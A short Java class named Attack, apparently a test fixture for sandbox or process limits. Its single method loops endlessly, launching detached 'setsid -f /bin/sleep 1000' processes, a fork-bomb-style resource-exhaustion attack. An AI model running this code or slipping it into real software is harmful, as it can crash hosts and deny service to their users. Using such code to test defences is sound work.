class Attack {
  static void attack() throws Exception {
    for (;;) new ProcessBuilder("/usr/bin/setsid", "-f", "/bin/sleep", "1000").start();
  }
}
